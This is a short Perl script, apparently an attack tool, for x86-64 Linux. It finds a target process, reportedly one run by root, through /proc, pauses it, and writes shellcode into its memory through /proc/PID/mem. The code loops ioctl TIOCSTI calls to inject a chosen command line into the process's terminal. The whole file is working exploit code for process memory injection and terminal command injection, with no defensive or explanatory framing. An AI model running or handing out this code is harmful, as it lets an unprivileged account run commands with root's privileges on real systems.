# An attack by the player's account on root's command: writes a program into the memory of the command, which then pushes a
# line into the shell of its terminal. For x86-64.
use strict;
use warnings;
no warnings 'portable';

my ($words, $line) = @ARGV;
sub runs {
    open my $file, '<', "/proc/$_[0]/cmdline" or return 0;
    return index(join(' ', split /\0/, readline($file) // ''), $words) >= 0;
}
my ($pid) = grep { $_ != $$ && runs($_) } map { m{(\d+)$} } glob '/proc/[0-9]*';
defined $pid or die "nothing runs $words\n";
print "found $pid\n";
open my $memory, '+<:raw', "/proc/$pid/mem" or die "memory: $!\n";
open my $call, '<', "/proc/$pid/syscall" or die "syscall: $!\n";
my ($next) = (readline $call) =~ /(0x[0-9a-f]+)$/ or die "it does not wait\n";
# For each letter: ioctl(0, TIOCSTI, letter). In the end: exit_group(0).
my $program = pack 'H*', '488d1d24000000' . '803b00' . '7416' . 'b810000000' . '31ff' . 'be12540000' . '4889da' . '0f05'
    . '48ffc3' . 'ebe5' . 'b8e7000000' . '31ff' . '0f05';
# The interrupted system call resumes here.
kill 'STOP', $pid;
sysseek $memory, hex $next, 0;
syswrite $memory, "$program$line\n\0" or die "memory: $!\n";
kill 'CONT', $pid;
print "written\n";
